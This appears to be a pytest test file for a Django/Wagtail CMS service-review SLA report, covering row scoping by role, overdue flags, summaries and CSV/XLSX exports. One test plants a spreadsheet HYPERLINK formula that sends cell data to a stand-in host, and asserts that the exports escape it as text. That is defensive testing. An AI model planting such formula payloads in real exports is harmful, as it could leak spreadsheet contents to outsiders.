"""The pipeline SLA report: scope, figures and exports."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from wagtail.models import WorkflowState

from cms.exports import safe_cell
from services.models import ServicePage
from tests.admin_forms import service_form_data

pytestmark = pytest.mark.django_db


def submit(client, page):
    client.post(
        reverse("wagtailadmin_pages:edit", args=[page.pk]), service_form_data(page, action="submit")
    )
    state = WorkflowState.objects.for_instance(page).get(status="in_progress")
    return state


def backdate(state, days):
    task_state = state.current_task_state
    task_state.started_at = timezone.now() - dt.timedelta(days=days)
    task_state.save(update_fields=["started_at"])


@pytest.fixture
def in_flight(login, services):
    helsinki, espoo = services("helsinki"), services("espoo")
    late = submit(login(f"{helsinki.provider.slug}-editor"), helsinki)
    backdate(late, 20)
    fresh = submit(login(f"{espoo.provider.slug}-editor"), espoo)
    backdate(fresh, 2)
    return helsinki, espoo


def test_report_is_scoped_and_flags_overdue(login, in_flight):
    helsinki, espoo = in_flight
    response = login("helsinki-producer").get(reverse("services_sla_report"))
    rows = response.context["rows"]
    assert [r["service"] for r in rows] == [helsinki.title]
    assert (
        rows[0]["overdue"]
        and rows[0]["target_days"] == 14
        and 19.9 < rows[0]["waiting_days"] < 20.1
    )
    everything = login("yllapito-maintainer").get(reverse("services_sla_report")).context["rows"]
    assert {r["service"] for r in everything} >= {helsinki.title, espoo.title}
    espoo_only = login("yllapito-maintainer").get(
        reverse("services_sla_report"), {"municipality": espoo.responsible_municipality_id}
    )
    assert [r["municipality"] for r in espoo_only.context["rows"]] == [
        str(espoo.responsible_municipality)
    ]
    # An expert edits no service: the report (and its menu item) is not theirs.
    refused = login("helsinki-expert").get(reverse("services_sla_report"))
    assert refused.status_code in (302, 403) and "rows" not in (refused.context or {})


def test_closed_reviews_summary_and_exports(login, in_flight):
    helsinki, _espoo = in_flight
    producer = login("helsinki-producer")
    data = service_form_data(helsinki)
    data.update(
        {
            "action-workflow-action": "true",
            "workflow-action-name": "approve",
            "workflow-action-extra-data": "{}",
        }
    )
    producer.post(reverse("wagtailadmin_pages:edit", args=[helsinki.pk]), data)
    report = login("yllapito-maintainer").get(reverse("services_sla_report"))
    summary = report.context["summary"][str(helsinki.responsible_municipality)]
    assert summary.count == 1 and summary.within_target_share == 0 and summary.median_days > 19.9

    csv_response = login("yllapito-maintainer").get(
        reverse("services_sla_report"), {"export": "csv"}
    )
    assert csv_response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(csv_response.content.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) >= 2 and len(rows[0]) == 8

    xlsx = login("yllapito-maintainer").get(reverse("services_sla_report"), {"export": "xlsx"})
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Open reviews", "Closed reviews"]
    assert book["Closed reviews"].cell(row=2, column=2).value == 1


FORMULA = '=HYPERLINK("https://x.example/?"&A1,"Avaa")'


def test_exports_never_carry_a_formula(login, in_flight):
    """A provider writes its service's title: in a spreadsheet it must stay text."""
    _helsinki, espoo = in_flight
    ServicePage.objects.filter(pk=espoo.pk).update(title=FORMULA)
    client = login("yllapito-maintainer")
    csv_rows = list(
        csv.reader(
            io.StringIO(
                client.get(reverse("services_sla_report"), {"export": "csv"}).content.decode(
                    "utf-8-sig"
                )
            ),
            delimiter=";",
        )
    )
    cells = [cell for row in csv_rows for cell in row if "HYPERLINK" in cell]
    assert cells == ["'" + FORMULA]
    xlsx = client.get(reverse("services_sla_report"), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content))["Open reviews"]
    found = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert [(c.value, c.data_type) for c in found] == [("'" + FORMULA, "s")]


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+358 40 123", "'+358 40 123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("Työkokeilu", "Työkokeilu"),
        (-2, -2),
        (1.5, 1.5),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
